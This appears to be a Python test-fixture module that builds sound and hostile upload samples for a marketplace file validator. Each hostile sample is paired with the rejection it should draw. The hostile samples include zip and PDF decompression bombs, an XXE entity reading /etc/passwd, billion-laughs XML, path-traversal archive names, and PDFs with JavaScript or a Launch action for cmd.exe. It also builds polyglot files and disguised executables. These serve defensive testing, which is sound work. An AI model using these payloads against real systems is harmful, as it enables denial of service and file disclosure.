"""Sound and hostile files, made when a test asks for them: none is kept beside the code."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf

from marketplace.tabular import to_csv, to_xlsx

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
PDF = "application/pdf"
TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/x" ContentType="{}"/></Types>'
SHEET_TYPES = TYPES.format(f"{XLSX}.main+xml").encode()
WORD_TYPES = TYPES.format(f"{DOCX}.main+xml").encode()
EXE = b"MZ\x90\x00\x03" + b"\x00" * 400 + b"This program cannot be run in DOS mode"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><script>alert(1)</script>"
GIF = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"

Sample = tuple[str, str, bytes]
"""Its name, its declared type, its bytes."""


def packed(parts: dict[str, bytes], types: bytes = SHEET_TYPES) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {"[Content_Types].xml": types, **parts}.items():
            archive.writestr(name, content)
    return out.getvalue()


def pdf(change: Callable[[pikepdf.Pdf], None] = lambda _: None, **saving: object) -> bytes:
    made = pikepdf.new()
    made.add_blank_page()
    change(made)
    out = io.BytesIO()
    made.save(out, **saving)  # type: ignore[arg-type]
    return out.getvalue()


def opens_with(action: str, **more: object) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = made.make_indirect(
            pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name(f"/{action}"), **more)
        )

    return change


def holds(*names: str) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        for name in names:
            made.attachments[name] = pikepdf.AttachedFileSpec(made, b"<x/>", filename=name)

    return change


def png(width: int = 2, height: int = 2) -> bytes:
    def chunk(kind: bytes, content: bytes) -> bytes:
        return (
            struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = zlib.compress(b"\0" * (width + 1) * min(height, 50))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def jpeg(width: int = 2, height: int = 2) -> bytes:
    app = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\0\1\1\0\0\1\0\1\0\0"
    size = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\1\x11\0"
    return b"\xff\xd8" + app + size + b"\xff\xda\x00\x08\1\1\0\0\x3f\0\x55\xff\xd9"


def lying_about_size() -> bytes:
    """A part that says it unfolds to little, and does not."""
    content = bytearray(packed({"xl/workbook.xml": b"<x/>", "xl/big.xml": b"<x>" + b"a" * 5_000_000}))
    for signature, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        at = content.rindex(signature)
        content[at + offset : at + offset + 4] = struct.pack("<I", 100)
    return bytes(content)


def encrypted_part() -> bytes:
    content = bytearray(packed({"xl/workbook.xml": b"<x/>"}))
    at = content.rindex(b"PK\x01\x02")
    content[at + 8] |= 1
    return bytes(content)


def overlapping() -> bytes:
    """Fifield's bomb in small: many entries of the index name one part."""
    content = packed({"xl/a.xml": b"a" * 100_000})
    index, end = content.rindex(b"PK\x01\x02"), content.rindex(b"PK\x05\x06")
    entry = content[index:end]
    copies = b"".join(entry.replace(b"xl/a.xml", f"xl/{n:01x}.xml".encode()) for n in range(16))
    before = content[: content.index(b"PK\x01\x02")]
    index_size = index - len(before) + len(copies)
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 17, 17, index_size, len(before), 0)
    return before + content[len(before) : index] + copies + tail


def barely_a_bomb(size: int) -> bytes:
    """Text that compresses about sixty times: under the limit."""
    numbers = random.Random(1)
    block = b"".join(b"<c>%08x</c>" % numbers.getrandbits(32) + b" " * 400 for _ in range(200))
    return block * (size // len(block))


def object_stream_bomb() -> bytes:
    bomb = zlib.compress(b"\0" * 300_000_000, 9)
    return b"%PDF-1.7\n1 0 obj <</Type/ObjStm/Filter/FlateDecode>> stream\n" + bomb + b"\nendstream\n%%EOF\n"


def sound() -> dict[str, Sample]:
    """What people really send."""
    table = [["Éclairage", "1"], ["=1+1", "2"]]
    return {
        "a pdf": ("Facture n° 4.PDF", PDF, pdf()),
        "a pdf of object streams": ("f.pdf", PDF, pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate)),
        "a factur-x invoice": ("f.pdf", PDF, pdf(holds("factur-x.xml"))),
        "a factur-x invoice of object streams": ("f.pdf", PDF, pdf(holds("factur-x.xml"), object_stream_mode=pikepdf.ObjectStreamMode.generate)),
        "a pdf whose sender does not know what it is": ("f.pdf", "application/octet-stream", pdf()),
        "a workbook": ("t.xlsx", XLSX, to_xlsx("T", ["a", "b"], table * 500)),
        "a document": ("t.docx", DOCX, packed({"word/document.xml": b"<w:document/>", "word/media/image1.png": png()}, WORD_TYPES)),
        "a csv": ("t.csv", "text/csv", to_csv(["a", "b"], table)),
        "a csv from windows": ("t.CSV", "application/vnd.ms-excel", to_csv(["a", "b"], table)),
        "a json": ("t.json", "application/json", b'\xef\xbb\xbf {"a": "<b>"}'),
        "a png": ("t.png", "image/png", png()),
        "a jpeg": ("t.jpeg", "image/jpeg", jpeg(4000, 3000)),
    }  # fmt: skip


def hostile() -> dict[str, tuple[str, Sample]]:
    """The code of its refusal, and the file."""
    content, kind, name = "file_content", "file_type", "file_name"
    remote = b'<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://ailleurs.test/x.dotm" TargetMode="External"/></Relationships>'
    xxe = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><worksheet>&e;</worksheet>'
    laughs = (
        b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><worksheet>&b;</worksheet>'
    )
    jar = packed({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0"}, b"")
    return {
        "nothing": ("empty_file", ("f.pdf", PDF, b"")),
        # archives
        "a zip bomb": (content, ("t.xlsx", XLSX, packed({"xl/sheet.xml": b"\0" * 90_000_000}))),
        "a bomb in many parts": (content, ("t.xlsx", XLSX, packed({f"xl/{n}.xml": b" " * 99_000 for n in range(400)}))),
        "a bomb that lies about its size": (content, ("t.xlsx", XLSX, lying_about_size())),
        "parts one upon another": (content, ("t.xlsx", XLSX, overlapping())),
        "a thousand parts": (content, ("t.xlsx", XLSX, packed({f"xl/{n}.xml": b"" for n in range(1001)}))),
        "an archive inside": (content, ("t.xlsx", XLSX, packed({"xl/embeddings/a.zip": packed({})}))),
        "an archive inside under another name": (content, ("t.xlsx", XLSX, packed({"xl/media/image1.png": packed({})}))),
        "a workbook inside a document": (content, ("t.docx", DOCX, packed({"word/embeddings/t.xlsx": packed({})}, WORD_TYPES))),
        "an ole object inside": (content, ("t.docx", DOCX, packed({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"x" * 99}, WORD_TYPES))),
        "a name that climbs": (content, ("t.xlsx", XLSX, packed({"../../etc/cron.d/x": b"x"}))),
        "a name that climbs as Windows does": (content, ("t.xlsx", XLSX, packed({"xl\\..\\..\\x.xml": b"x"}))),
        "an absolute name": (content, ("t.xlsx", XLSX, packed({"/etc/passwd": b"x"}))),
        "an encrypted part": (content, ("t.xlsx", XLSX, encrypted_part())),
        "a workbook cut short": (content, ("t.xlsx", XLSX, to_xlsx("T", ["a"], [["b"]])[:-30])),
        "any zip called a workbook": (content, ("t.xlsx", XLSX, jar)),
        "a document called a workbook": (content, ("t.xlsx", XLSX, packed({}, WORD_TYPES))),
        "a document with macros": (content, ("t.docx", DOCX, packed({"word/vbaProject.bin": b"x"}, WORD_TYPES))),
        "a macro workbook under another extension": (content, ("t.xlsx", XLSX, packed({}, SHEET_TYPES + b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"))),
        "a workbook of the old macros": (content, ("t.xlsx", XLSX, packed({"xl/macrosheets/sheet1.xml": b"<x/>"}))),
        "a macro workbook": (name, ("t.xlsm", "application/vnd.ms-excel.sheet.macroEnabled.12", packed({}))),
        "a workbook that reads our files": (content, ("t.xlsx", XLSX, packed({"xl/worksheets/sheet1.xml": xxe}))),
        "a workbook that laughs": (content, ("t.xlsx", XLSX, packed({"xl/worksheets/sheet1.xml": laughs}))),
        "entities in utf-16": (content, ("t.xlsx", XLSX, packed({"xl/worksheets/sheet1.xml": xxe.decode().encode("utf-16")}))),
        "entities far away": (content, ("t.xlsx", XLSX, packed({"xl/worksheets/sheet1.xml": b"<!--" + bytes(range(33, 45)) * 40_000 + b"-->" + xxe}))),
        "a document whose template is elsewhere": (content, ("t.docx", DOCX, packed({"word/_rels/settings.xml.rels": remote}, WORD_TYPES))),
        # what is not what it says
        "a program": (kind, ("f.pdf", PDF, EXE)),
        "a program called a table": (kind, ("t.csv", "text/csv", EXE)),
        "a program called a workbook": (kind, ("t.xlsx", XLSX, EXE)),
        "a program by two extensions": (name, ("facture.pdf.exe", PDF, EXE)),
        "a name turned around": (name, ("facture\u202efdp.exe", PDF, pdf())),
        "an svg": (name, ("logo.svg", "image/svg+xml", SVG)),
        "an svg called an image": (kind, ("logo.png", "image/png", SVG)),
        "an svg called a table": (kind, ("t.csv", "text/csv", b"\n  " + SVG)),
        "a page called a pdf": (kind, ("f.pdf", PDF, HTML)),
        "a page called json": (kind, ("t.json", "application/json", HTML)),
        "a pdf declared as a page": (kind, ("f.pdf", "text/html", pdf())),
        "a pdf called an image": (kind, ("f.png", "image/png", pdf())),
        "a gif": (name, ("a.gif", "image/gif", GIF)),
        "a table in another encoding": (content, ("t.csv", "text/csv", "né;à".encode("latin-1"))),
        # two things at once
        "a pdf that begins as a page": (content, ("f.pdf", PDF, b"%PDF-1.7\n" + HTML + pdf())),
        "a pdf that ends as a page": (content, ("f.pdf", PDF, pdf() + HTML + b"%%EOF\n")),
        "a pdf and a page far behind it": (content, ("f.pdf", PDF, pdf() + b"\n" * 2000 + HTML)),
        "a pdf and an archive": (content, ("f.pdf", PDF, pdf() + jar + b"\n%%EOF")),
        "an archive and a pdf": (content, ("t.xlsx", XLSX, packed({"xl/workbook.xml": b"x"}).replace(b"PK\x03\x04", b"PK\x03\x04", 1)[:30] + b"%PDF-1.7" + packed({})[30:])),
        "an image and an archive": (content, ("a.png", "image/png", png() + jar)),
        "a photo and an archive": (content, ("a.jpg", "image/jpeg", jpeg() + jar)),
        "a gif and an archive": (kind, ("a.png", "image/png", GIF + jar)),
        "a photo and a page": (content, ("a.jpg", "image/jpeg", jpeg() + HTML)),
        # images that would fill the memory
        "a huge png": (content, ("a.png", "image/png", png(20_000, 20_000))),
        "a huge jpeg": (content, ("a.jpg", "image/jpeg", jpeg(20_000, 20_000))),
        "an image without a size": (content, ("a.png", "image/png", png(0, 0))),
        # pdfs that act
        "a pdf with a script": (content, ("f.pdf", PDF, pdf(opens_with("JavaScript", JS="app.alert(1)")))),
        "a script in an object stream": (content, ("f.pdf", PDF, pdf(opens_with("JavaScript", JS="app.alert(1)"), object_stream_mode=pikepdf.ObjectStreamMode.generate))),
        "a script under an escaped name": (content, ("f.pdf", PDF, pdf(opens_with("JavaScript", JS="x")).replace(b"/JavaScript", b"/J#61va#53cript"))),
        "a pdf that launches": (content, ("f.pdf", PDF, pdf(opens_with("Launch", F="cmd.exe")))),
        "a pdf with a program inside": (content, ("f.pdf", PDF, pdf(holds("a.exe")))),
        "a program beside a factur-x": (content, ("f.pdf", PDF, pdf(holds("factur-x.xml", "a.exe")))),
        "an encrypted pdf": (content, ("f.pdf", PDF, pdf(encryption=pikepdf.Encryption(owner="a", user="")))),
        "a pdf cut short": (content, ("f.pdf", PDF, pdf()[:-60])),
        # what would keep us busy
        "a pdf of nothing but object streams": (content, ("f.pdf", PDF, b"%PDF-1.7\n" + b"/ObjStm" * 2_700_000 + b"%%EOF")),
        "an object stream that unfolds to 300 MB, then a script": (content, ("f.pdf", PDF, object_stream_bomb().replace(b"%%EOF", b"/JavaScript %%EOF"))),
        "a pdf of nothing but escapes": (content, ("f.pdf", PDF, b"%PDF-1.7\n" + b"/#41" * 4_800_000 + b"/JavaScript %%EOF")),
        "a pdf of nearly too many names, then a script": (
            content,
            ("f.pdf", PDF, b"%PDF-1.7\n" + b"/JavaScrip" * 999_000 + b" /JavaScript %%EOF"),
        ),
        "entities at the end of the largest workbook": (
            content,
            ("t.xlsx", XLSX, packed({"xl/worksheets/sheet1.xml": barely_a_bomb(95_000_000) + xxe})),
        ),
        "a large table that is none": (content, ("t.csv", "text/csv", "é\U0001f600".encode() * 3_200_000 + b"\xff")),
        "too large": ("too_large", ("f.pdf", PDF, b"%PDF-1.7" + b"x" * 20_000_000)),
    }  # fmt: skip
